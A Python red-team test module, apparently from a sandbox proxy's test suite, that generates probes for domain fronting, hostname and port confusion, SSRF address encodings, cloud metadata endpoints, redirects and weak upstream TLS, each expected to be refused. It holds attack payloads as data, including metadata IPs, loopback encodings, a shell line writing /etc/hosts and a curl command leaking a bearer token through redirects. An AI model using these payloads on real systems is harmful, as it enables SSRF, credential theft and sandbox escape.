"""Confusing the destination (threat model, section 2): names, addresses, paths and protocols that two programs read
differently, and everything that could lead a request elsewhere than to where it was judged to go.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from penstock.redteam.expect import (
    both,
    either,
    exactly,
    refused,
    requests,
    status,
    swapped,
    unread,
    untouched,
    without,
)
from penstock.redteam.messages import (
    PATH,
    request,
    response,
)
from penstock.redteam.probe import (
    API,
    OTHER_NAME,
    PACKAGES,
    PLAIN,
    SELF_SIGNED,
    Asked,
    Kit,
    Part,
    Probe,
    Seen,
    Shell,
    Wire,
)
from penstock.redteam.probes.building import EVIL, nowhere

# -- CONNECT, SNI, Host -----------------------------------------------------------------------------------------------

_SIDES = (("bound", API), ("open", PACKAGES), ("evil", EVIL))


def _fronting() -> Iterator[Probe]:
    """Every triple of three hosts that does not agree."""
    for first, connect in _SIDES:
        for second, sni in _SIDES:
            for third, host in _SIDES:
                if first == second == third:
                    continue
                yield Probe(
                    id=f"fronting.{first}-{second}-{third}",
                    row="fronting",
                    expect=nowhere,
                    tries=f"CONNECT to {first}, SNI of {second}, Host of {third}",
                    attack=Wire(host=connect, sni=sni, send=(request(host=host),)),
                )


_FRONTING = (
    *_fronting(),
    Probe(
        id="fronting.no-sni",
        row="fronting",
        tries="CONNECT to a bound host, and no SNI",
        attack=Wire(sni="", send=(request(),)),
        expect=nowhere,
    ),
    Probe(
        id="fronting.absolute-target",
        row="fronting",
        tries="an absolute target of another host inside the tunnel",
        attack=Wire(send=(request("GET", f"https://{EVIL}/@TOKEN@"),)),
        expect=nowhere,
    ),
    Probe(
        id="fronting.absolute-http",
        row="fronting",
        tries="an absolute http target of the same host inside TLS",
        attack=Wire(send=(request("GET", f"http://{API}/@TOKEN@"),)),
        expect=nowhere,
    ),
    Probe(
        id="fronting.port-in-host",
        row="fronting",
        tries="Host names another port",
        attack=Wire(send=(request(host=f"{API}:8443"),)),
        expect=nowhere,
    ),
    Probe(
        id="fronting.x-forwarded-host",
        row="fronting",
        tries="Host is right, X-Forwarded-Host is the attacker's",
        attack=Wire(send=(request("GET", PATH, f"X-Forwarded-Host: {EVIL}"),)),
        expect=both(swapped, untouched, without("x-forwarded-host")),
    ),
    Probe(
        id="fronting.connect-host",
        row="fronting",
        tries="CONNECT to the attacker, and Host of the bound one",
        attack=Wire(connect=f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n".encode(), send=(request(),)),
        expect=nowhere,
    ),
    Probe(
        id="pipeline.second-host",
        row="pipeline",
        tries="two requests on one tunnel, the second for the attacker",
        attack=Wire(send=(request(close=False) + request(host=EVIL),), answers=2),
        expect=both(exactly(1), untouched),
    ),
    Probe(
        id="pipeline.second-open",
        row="pipeline",
        tries="the second request is for a host that may be read",
        attack=Wire(send=(request(close=False) + request(host=PACKAGES),), answers=2),
        expect=both(exactly(1), exactly(0, "open")),
    ),
    Probe(
        id="pipeline.plain",
        row="pipeline",
        tries="two requests to the proxy, the second for the attacker",
        attack=Wire(
            way="proxy",
            tls=False,
            answers=2,
            send=(
                request("GET", f"http://{PLAIN}/@TOKEN@", host=PLAIN, auth="", close=False)
                + request("GET", f"http://{EVIL}/@TOKEN@", host=EVIL, auth=""),
            ),
        ),
        expect=both(exactly(1, "open"), untouched),
    ),
    Probe(
        id="pipeline.plain-disagreeing",
        row="pipeline",
        tries="the target names one host, Host another",
        attack=Wire(way="proxy", tls=False, send=(request("GET", f"http://{PLAIN}/@TOKEN@", host=EVIL, auth=""),)),
        expect=either(nowhere, both(exactly(1, "open"), untouched, unread(EVIL, role="open"))),
    ),
)

# -- names ------------------------------------------------------------------------------------------------------------

NAMES: tuple[tuple[str, str, str], ...] = (
    ("userinfo", "the bound host as a user's name", f"{API}@{EVIL}"),
    ("userinfo-turned", "the attacker's host as a user's name", f"{EVIL}@{API}"),
    ("backslash", "a backslash", f"{EVIL}\\.{API}"),
    ("slash", "a slash", f"{EVIL}/.{API}"),
    ("fragment", "a fragment", f"{EVIL}#.{API}"),
    ("query", "a question mark", f"{EVIL}?.{API}"),
    ("percent", "percent-encoded letters", "%61pi.bound.example"),
    ("percent-dot", "percent-encoded dots", "api%2ebound%2eexample"),
    ("percent-nul", "a percent-encoded NUL", f"{API}%00.{EVIL}"),
    ("nul", "a NUL", f"{API}\0.{EVIL}"),
    ("tab", "a tab", f"{API}\t.{EVIL}"),
    ("space", "a space", f"{API} .{EVIL}"),
    ("carriage-return", "a carriage return", f"{API}\r.{EVIL}"),
    ("two-dots", "two dots", "api..bound.example"),
    ("leading-dot", "a dot before the name", f".{API}"),
    ("two-trailing-dots", "two dots behind the name", f"{API}.."),
    ("ideographic-stop", "an ideographic full stop", "api\u3002bound\u3002example"),
    ("full-width", "full-width letters", "\uff41pi.bound.example"),
    ("cyrillic", "a Cyrillic letter", "\u0430pi.bound.example"),
    ("kelvin", "a letter that is k when it is small", "pac\u212aages.example"),
    ("punycode-fake", "an A-label of plain letters", "xn--api-.bound.example"),
    ("underscore", "an underscore", "api_.bound.example"),
    ("hyphen", "a label that begins with a hyphen", "-api.bound.example"),
    ("long-label", "a label of 64 letters", "a" * 64 + ".bound.example"),
    ("long-name", "a name of 300 letters", ".".join(["a" * 49] * 6)),
    ("brackets", "brackets around a name", f"[{API}]"),
    ("star", "a star", "*.bound.example"),
    ("suffix", "the bound host's name before the attacker's", f"{API}.{EVIL}"),
    ("prefix", "the attacker's label before the bound host's name", f"evil{API}"),
    ("subdomain", "a name below the bound host's", f"x.{API}"),
    ("parent", "the name above it", "bound.example"),
)


def _name(name: str, words: str, host: str) -> Probe:
    as_sent = host.encode("utf-8").decode("latin-1")
    connect = f"CONNECT {as_sent}:443 HTTP/1.1\r\nHost: {as_sent}:443\r\nX-Probe: @TOKEN@\r\n\r\n".encode("latin-1")
    return Probe(
        id=f"names.{name}",
        row="names",
        tries=f"CONNECT to {words}",
        expect=nowhere,
        attack=Wire(connect=connect, sni=API, send=(request(),)),
    )


_PORTS = ("443:443", "0443", "+443", "443 ", "", "0", "65979", "0x1bb", "443@x", "\u0664\u0664\u0663")


def _one_name(seen: Seen) -> str:
    wrong = [asked for asked in requests(seen) if asked.role != "bound" or asked.values("host") != [API]]
    return "it arrived elsewhere, or under another name" if wrong else untouched(seen)


_NAMES = (
    *(_name(*row) for row in NAMES),
    *(
        Probe(
            id=f"names.port-{number}",
            row="names",
            tries=f"CONNECT to the port {port!r}",
            expect=nowhere,
            attack=Wire(
                connect=f"CONNECT {API}:{port} HTTP/1.1\r\nHost: {API}\r\nX-P: @TOKEN@\r\n\r\n".encode(),
                send=(request(),),
            ),
        )
        for number, port in enumerate(_PORTS)
    ),
    Probe(
        id="names.capitals",
        row="names",
        tries="the bound host in capitals: the same host, under its one name",
        attack=Wire(host="API.BOUND.EXAMPLE", send=(request(host="Api.Bound.Example"),)),
        expect=both(swapped, _one_name),
    ),
    Probe(
        id="names.trailing-dot",
        row="names",
        tries="the bound host with its final dot: the same host",
        attack=Wire(host=f"{API}.", send=(request(host=f"{API}."),)),
        expect=both(swapped, _one_name),
    ),
    Probe(
        id="names.sni-capitals",
        row="names",
        tries="SNI in capitals and with a dot",
        attack=Wire(sni="API.Bound.Example", send=(request(),)),
        expect=both(swapped, _one_name),
    ),
)

# -- addresses --------------------------------------------------------------------------------------------------------

ADDRESSES: tuple[tuple[str, str], ...] = (
    ("loopback", "127.0.0.1"),
    ("loopback-other", "127.8.9.1"),
    ("decimal", "2130706433"),
    ("octal", "0177.0.0.1"),
    ("hexadecimal", "0x7f.0.0.1"),
    ("hexadecimal-whole", "0x7f000001"),
    ("short", "127.1"),
    ("three-parts", "127.0.1"),
    ("zero", "0"),
    ("unspecified", "0.0.0.0"),  # noqa: S104
    ("leading-zeros", "127.000.000.001"),
    ("trailing-dot", "127.0.0.1."),
    ("full-width", "\uff11\uff12\uff17.0.0.1"),
    ("v6-loopback", "[::1]"),
    ("v6-unspecified", "[::]"),
    ("v6-mapped", "[::ffff:127.0.0.1]"),
    ("v6-mapped-hex", "[::ffff:7f00:1]"),
    ("v6-compatible", "[::127.0.0.1]"),
    ("v6-6to4", "[2002:7f00:1::1]"),
    ("v6-nat64", "[64:ff9b::7f00:1]"),
    ("v6-nat64-local", "[64:ff9b:1::7f00:1]"),
    ("v6-link-local", "[fe80::1]"),
    ("v6-zone", "[fe80::1%25lo]"),
    ("v6-unique-local", "[fd00::1]"),
    ("v6-multicast", "[ff02::1]"),
    ("v6-teredo", "[2001:0:7f00:1::1]"),
    ("private-10", "10.0.0.1"),
    ("private-172", "172.17.0.1"),
    ("private-192", "192.168.0.1"),
    ("carrier", "100.64.0.1"),
    ("multicast", "224.0.0.1"),
    ("broadcast", "255.255.255.255"),
    ("benchmark", "198.18.0.1"),
    ("own-address", "@HOSTADDRESS@"),
)
"""All of them are asked for in the neighbour's session, whose rules allow every host and port."""

METADATA: tuple[tuple[str, str], ...] = (
    ("aws", "169.254.169.254"),
    ("aws-v6", "[fd00:ec2::254]"),
    ("aws-decimal", "2852039166"),
    ("aws-mapped", "[::ffff:169.254.169.254]"),
    ("ecs", "169.254.170.2"),
    ("alibaba", "100.100.100.200"),
    ("azure", "168.63.129.16"),
    ("oracle", "192.0.0.192"),
    ("google-name", "metadata.google.internal"),
)


def _address(row: str, name: str, host: str) -> Probe:
    as_sent = host.encode().decode("latin-1")
    port = "@HOSTPORT@" if row != "metadata" else "80"
    connect = f"CONNECT {as_sent}:{port} HTTP/1.1\r\nHost: {as_sent}:{port}\r\n\r\n".encode("latin-1")
    asking = request(host=f"{as_sent}:{port}", auth="", close=True)
    return Probe(
        id=f"{row}.{name}",
        row=row,
        tries=f"CONNECT to {host.replace('@HOSTADDRESS@', 'an own address of this machine')}",
        where="neighbour",
        expect=nowhere,
        attack=Wire(connect=connect, tls=False, send=(asking,)),
    )


_ADDRESSES = (
    *(_address("addresses", *row) for row in ADDRESSES),
    *(_address("metadata", *row) for row in METADATA),
    _address("resolver", "localhost", "localhost"),
    _address("resolver", "below-localhost", "a.localhost"),
    _address("resolver", "localhost-domain", "localhost.localdomain"),
    _address("resolver", "own-name", "@HOSTNAME@"),
    Probe(
        id="addresses.absolute",
        row="addresses",
        tries="GET http://127.0.0.1 to the proxy",
        where="neighbour",
        expect=nowhere,
        attack=Wire(
            way="proxy",
            tls=False,
            send=(request("GET", "http://127.0.0.1:@HOSTPORT@/@TOKEN@", host="127.0.0.1:@HOSTPORT@", auth=""),),
        ),
    ),
    Probe(
        id="addresses.host-of-stand-in",
        row="addresses",
        tries="plain HTTP to a public address, and Host of this machine",
        where="neighbour",
        expect=nowhere,
        attack=Wire(
            way="transparent", host="192.0.2.7", port=80, tls=False, send=(request(host="127.0.0.1", auth=""),)
        ),
    ),
    Probe(
        id="resolver.hosts-file",
        row="resolver",
        tries="an address for the bound host that the sandbox made up itself",
        attack=Wire(way="transparent", host="203.0.113.5", sni=API, send=(request(),)),
        expect=both(swapped, untouched),
    ),
    Probe(
        id="resolver.etc-hosts",
        row="resolver",
        tries="write /etc/hosts",
        attack=Shell("(: >> /etc/hosts) && echo written; true"),
        expect=lambda seen: "it was written" if seen.back.text else "",
    ),
)

# -- redirects, TLS upstream ------------------------------------------------------------------------------------------


def _redirect(code: str) -> Callable[[Asked, Kit], Iterator[Part]]:
    def answer(asked: Asked, kit: Kit) -> Iterator[Part]:
        yield response(
            b"", code, f"Location: https://{kit.fill_text(EVIL)}/@TOKEN@".replace("@TOKEN@", asked.token.decode())
        )

    return answer


_REDIRECTS = (
    *(
        Probe(
            id=f"redirects.{code[:3]}",
            row="redirects",
            tries=f"the bound host answers {code} to the attacker's",
            attack=Wire(send=(request(),)),
            answer=_redirect(code),
            expect=both(swapped, untouched, status(int(code[:3]))),
        )
        for code in ("301 Moved", "302 Found", "307 Temporary Redirect", "308 Permanent Redirect")
    ),
    Probe(
        id="redirects.curl",
        row="redirects",
        tries="curl -L follows it, credential and all",
        attack=Shell(
            "curl -sS -L --location-trusted -m 8 -o /dev/null -w '%{http_code}' -H \"Authorization: Bearer $API_TOKEN\""
            " https://api.bound.example/@TOKEN@",
            ("curl",),
        ),
        answer=_redirect("302 Found"),
        expect=both(swapped, untouched),
    ),
    Probe(
        id="upstream-tls.self-signed",
        row="upstream-tls",
        tries="a bound host shows a certificate that vouches for itself",
        attack=Wire(host=SELF_SIGNED, send=(request(host=SELF_SIGNED),)),
        expect=refused("upstream_tls"),
    ),
    Probe(
        id="upstream-tls.other-name",
        row="upstream-tls",
        tries="a bound host shows another host's certificate",
        attack=Wire(host=OTHER_NAME, send=(request(host=OTHER_NAME),)),
        expect=refused("upstream_tls"),
    ),
    Probe(
        id="upstream-tls.ask",
        row="upstream-tls",
        tries="ask for no verification",
        attack=Wire(
            host=SELF_SIGNED,
            send=(request("GET", PATH, "X-Penstock-Insecure: 1", "X-Skip-Verify: true", host=SELF_SIGNED),),
        ),
        expect=refused("upstream_tls"),
    ),
)


PROBES: tuple[Probe, ...] = (*_FRONTING, *_NAMES, *_ADDRESSES, *_REDIRECTS)
